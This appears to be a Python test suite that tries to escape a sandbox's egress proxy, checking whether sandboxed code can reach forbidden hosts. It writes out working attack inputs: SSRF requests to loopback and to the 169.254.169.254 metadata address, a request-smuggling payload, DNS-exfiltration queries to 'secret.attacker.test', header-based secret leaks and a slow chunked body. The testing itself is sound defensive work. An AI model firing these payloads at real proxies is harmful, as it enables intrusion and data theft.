"""Attempts on the proxy: to reach what the policy does not name, by way of what it does."""

from __future__ import annotations

import asyncio
import contextlib
import socket
import threading
from collections.abc import Callable, Iterator, Sequence

from actbox import AllowedDomain, Policy, Sandbox, Secret
from actbox.sandbox.egress.bounds import Bounds
from actbox.sandbox.egress.upstream import Upstream
from tests.escape.attempt import Verdict, escaped_if, unproven
from tests.escape.ground import Ground
from tests.escape.network import GROUP
from tests.escape.program import source_of

# What a host that must not be reached answers with; in two pieces, as in all canaries.
_REACHED = "answered by the " + "forbidden host"
_ALLOWED = "answered by the allowed host"

_PRELUDE = """
import re

def is_whole(got):
    head, end, body = got.partition(b"\\r\\n\\r\\n")
    length = re.search(rb"(?i)\\r\\ncontent-length: *([0-9]+)", head)
    return bool(end) and (length is None or len(body) >= int(length[1]))

def send(data, port=3128):
    with socket.create_connection(("127.0.0.1", port), 30) as way:
        way.sendall(data)
        way.settimeout(30)
        got = b""
        try:
            while piece := way.recv(65536):
                got += piece
                is_over = is_whole(got) or data.startswith(b"HEAD ")
                way.settimeout(0.3 if is_over else 30)  # the connection may be kept
        except OSError:
            pass
    return got

def reached(got):
    text = got.decode("latin-1")
    verdict("forbidden" + " host" in text, text[:300])
"""


class _Server:
    """A plain HTTP server on loopback that remembers who came; `answer` makes of a request what it says."""

    def __init__(self, answer: Callable[[bytes], bytes]) -> None:
        self._answer = answer
        self.asked: list[bytes] = []
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listener.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def close(self) -> None:
        # A blocked accept() is woken by a shutdown only.
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            with connection, contextlib.suppress(OSError):
                connection.settimeout(30)
                self.asked.append(connection.recv(65536))
                connection.sendall(self._answer(self.asked[-1]))


def _saying(what: str) -> Callable[[bytes], bytes]:
    return lambda _: b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(what), what.encode())


@contextlib.contextmanager
def _two_servers() -> Iterator[tuple[_Server, _Server]]:
    allowed, forbidden = _Server(_saying(_ALLOWED)), _Server(_saying(_REACHED))
    try:
        yield allowed, forbidden
    finally:
        allowed.close()
        forbidden.close()


def _tries(what: str, code: str, *, private: bool = True, address: str = "127.0.0.1") -> None:
    """Add a program that may reach `allowed.test` only: `PORT` is that one's port, `OTHER` the forbidden host's.

    Every name has the same address.
    """

    async def resolve(name: str, port: int) -> Sequence[str]:
        return [address]

    async def attempt(ground: Ground) -> Verdict:
        with _two_servers() as (allowed, forbidden):
            policy = Policy(domains=(AllowedDomain(f"http://allowed.test:{allowed.port}", ["GET"], private=private),))
            box: Sandbox = await ground.open(policy, upstream=Upstream(resolve=resolve))
            head = f"PORT, OTHER = {allowed.port}, {forbidden.port}\n"
            if private and address == "127.0.0.1" and not await _answers(ground, box, head):
                return unproven("the host that is allowed does not answer either")
            verdict = await ground.tries(box, _PRELUDE + head + code)
            if forbidden.asked:
                return escaped_if(True, f"the forbidden host was asked: {forbidden.asked!r}")
            return verdict

    GROUP.function(what)(attempt)


async def _answers(ground: Ground, box: Sandbox, head: str) -> bool:
    ask = "print(send(b'GET http://allowed.test:%d/ HTTP/1.1\\r\\nHost: allowed.test:%d\\r\\n\\r\\n' % (PORT, PORT)).decode())"
    return _ALLOWED in (await box.run(source_of(_PRELUDE + head + ask, ground.things))).stdout


_tries(
    "reach another port of an allowed host",
    "reached(send(b'GET http://allowed.test:%d/ HTTP/1.1\\r\\nHost: allowed.test:%d\\r\\n\\r\\n' % (OTHER, OTHER)))",
)
_tries(
    "reach the host's loopback by its address",
    "reached(send(b'GET http://127.0.0.1:%d/ HTTP/1.1\\r\\nHost: 127.0.0.1:%d\\r\\n\\r\\n' % (OTHER, OTHER)))",
)
_tries(
    "reach the host's loopback by a number",
    "reached(send(b'GET http://2130706433:%d/ HTTP/1.1\\r\\nHost: 2130706433:%d\\r\\n\\r\\n' % (OTHER, OTHER)))",
)
_tries(
    "open a tunnel to another host",
    "reached(send(b'CONNECT other.test:%d HTTP/1.1\\r\\nHost: other.test:%d\\r\\n\\r\\nGET / HTTP/1.1\\r\\n\\r\\n' % (OTHER, OTHER)))",
)
_tries(
    "speak something else than TLS through a tunnel",
    "got = send(b'CONNECT allowed.test:%d HTTP/1.1\\r\\nHost: allowed.test:%d\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' % (PORT, PORT))\n"
    "verdict(b'answered' in got, got)",
)
_tries(
    "name another host in the Host header",
    "got = send(b'GET http://allowed.test:%d/ HTTP/1.1\\r\\nHost: other.test:%d\\r\\n\\r\\n' % (PORT, OTHER))\n"
    "verdict(b' 200 ' in got.split(b'\\r\\n')[0], got)",
)
_tries(
    "hide a second request behind two lengths",
    "got = send(b'GET http://allowed.test:%d/ HTTP/1.1\\r\\nHost: allowed.test:%d\\r\\nContent-Length: 5\\r\\n"
    "Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nPOST /hidden HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' % (PORT, PORT))\n"
    "verdict(b' 400 ' not in got.split(b'\\r\\n')[0], got)",
)
_tries(
    "use a method that is not allowed",
    "got = send(b'DELETE http://allowed.test:%d/ HTTP/1.1\\r\\nHost: allowed.test:%d\\r\\n\\r\\n' % (PORT, PORT))\nverdict(b'answered' in got, got)",
)
_tries(
    "ask for a name that leads to the host's loopback",
    "got = send(b'GET http://allowed.test:%d/ HTTP/1.1\\r\\nHost: allowed.test:%d\\r\\n\\r\\n' % (PORT, PORT))\nverdict(b'answered' in got, got)",
    private=False,
)
_tries(
    "ask for a name that leads to the cloud's metadata",
    "got = send(b'GET http://allowed.test:%d/ HTTP/1.1\\r\\nHost: allowed.test:%d\\r\\n\\r\\n' % (PORT, PORT))\nverdict(b' 403 ' not in got.split(b'\\r\\n')[0], got)",
    address="169.254.169.254",
)
_tries(
    "have a port of the sandbox's own taken for the proxy's way out",
    "server = socket.create_server(('127.0.0.1', OTHER))\n"
    "got = send(b'GET http://localhost:%d/ HTTP/1.1\\r\\nHost: localhost:%d\\r\\n\\r\\n' % (OTHER, OTHER))\nreached(got)",
)
_tries(
    "reach a host that is not allowed by its name",
    "name = socket.gethostbyname('other.test')\n"
    "got = send(b'GET / HTTP/1.1\\r\\nHost: other.test:%d\\r\\nConnection: close\\r\\n\\r\\n' % PORT, PORT)\n"
    "reached(got) if name == '127.0.0.1' else verdict(True, name)",
)
_tries(
    "name an allowed host after one that is not",
    "ask = b'GET / HTTP/1.1\\r\\nHost: %s.test:%d\\r\\n\\r\\n'\n"
    "got = send(ask % (b'allowed', PORT) + ask % (b'other', PORT), PORT)\n"
    "verdict(got.count(b' 200 OK') != 1 or got.count(b' 403 ') != 1, got)",
)


@GROUP.function("have a name looked up that carries a secret")
async def _(ground: Ground) -> Verdict:
    lookups: list[str] = []

    async def resolve(name: str, port: int) -> Sequence[str]:
        lookups.append(name)
        return ["127.0.0.1"]

    policy = Policy(domains=(AllowedDomain("*.allowed.test"),))
    box = await ground.open(policy, upstream=Upstream(resolve=resolve))
    program = """
for name in ("secret.attacker.test", "secret.allowed.test"):
    socket.getaddrinfo(name, 80)
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    for kind in (1, 2, 5, 12, 16, 28, 33, 252, 255):
        question = struct.pack("!6H", kind, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, kind, 1)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
            asking.settimeout(5)
            asking.sendto(question, ("127.0.0.1", 53))
            asking.recv(512)
        with socket.create_connection(("127.0.0.1", 53), 5) as asking:
            asking.sendall(struct.pack("!H", len(question)) + question)
            asking.recv(512)
print("asked")
"""
    result = await box.run(source_of(program, ground.things))
    if "asked" not in result.stdout:
        return unproven(f"nothing could be asked: {result.error}")
    return escaped_if(bool(lookups), f"looked up: {lookups}")


@GROUP.function("learn the length of a secret from the head of an answer")
async def _(ground: Ground) -> Verdict:
    value = "canary-of-" + "a-secret-that-nobody-knows"

    def answer(request: bytes) -> bytes:
        body = b"you sent " + request.partition(b"x-key: ")[2].partition(b"\r")[0]
        head = b"HTTP/1.1 %%s\r\nContent-Length: %d\r\nContent-Range: bytes 0-1/%d\r\nETag: %d\r\n\r\n" % (
            (len(body),) * 3
        )
        if request.startswith(b"HEAD "):
            return head % b"200 OK"
        return head % (b"206 Part" if b" /part " in request else b"200 OK") + body

    with contextlib.closing(_Server(answer)) as server:
        place = f"http://allowed.test:{server.port}"
        box = await ground.open(
            Policy(
                domains=(AllowedDomain(place, private=True),),
                secrets=(Secret("key", value, (place,), "X-Key: {}"),),
            ),
            upstream=Upstream(resolve=_loopback),
        )
        code = (
            f"PORT, LENGTH = {server.port}, b'{len(value) + len('you sent ')}'\ngot = b''\n"
            "for ask in (b'HEAD /', b'GET /', b'GET /part', b'HEAD /part'):\n"
            "    method, path = ask.split()\n"
            "    got += send(b'%s http://allowed.test:%d%s HTTP/1.1\\r\\nHost: allowed.test:%d\\r\\n\\r\\n' % (method, PORT, path, PORT))\n"
            "heads = [line for line in got.split(b'\\r\\n') if b':' in line]\n"
            "verdict(any(LENGTH in line for line in heads), got)"
        )
        verdict = await ground.tries(box, _PRELUDE + code)
        if sum(value.encode() in asked for asked in server.asked) != 4:
            return unproven(f"the host was not sent the secret each time: {len(server.asked)} requests")
        return verdict


@GROUP.function("hold up the host by chunks of one byte")
async def _(ground: Ground) -> Verdict:
    chunks = 30_000
    turns = 0

    async def count() -> None:
        nonlocal turns
        while True:
            turns += 1
            await asyncio.sleep(0)

    async def take_all(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        counting = None
        with contextlib.suppress(ConnectionError):
            while not (data := await reader.read(65536)).endswith(b"0\r\n\r\n") and data:
                counting = counting or asyncio.create_task(count())  # from the first bytes to the last
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\ntaken")
        if counting:
            counting.cancel()
        writer.close()

    server = await asyncio.start_server(take_all, "127.0.0.1", 0)
    async with server:
        port = server.sockets[0].getsockname()[1]
        policy = Policy(domains=(AllowedDomain(f"http://allowed.test:{port}", private=True),))
        box = await ground.open(policy, upstream=Upstream(resolve=_loopback))
        code = (
            f"PORT = {port}\n"
            "got = send(b'POST http://allowed.test:%d/ HTTP/1.1\\r\\nHost: allowed.test:%d\\r\\n"
            "Transfer-Encoding: chunked\\r\\n\\r\\n' % (PORT, PORT) + "
            f"b'1\\r\\na\\r\\n' * {chunks} + b'0\\r\\n\\r\\n')\n"
            "print(got)"
        )
        result = await box.run(source_of(_PRELUDE + code, ground.things))
    if "taken" not in result.stdout:
        return unproven(f"the body did not get through: {result.stdout[:200]} {result.error}")
    # Half of them, since what came at first was worked off before the count began.
    return escaped_if(turns < chunks / Bounds().steps_a_turn / 2, f"{chunks} chunks in {turns} turns of the loop")


async def _loopback(name: str, port: int) -> Sequence[str]:
    return ["127.0.0.1"]
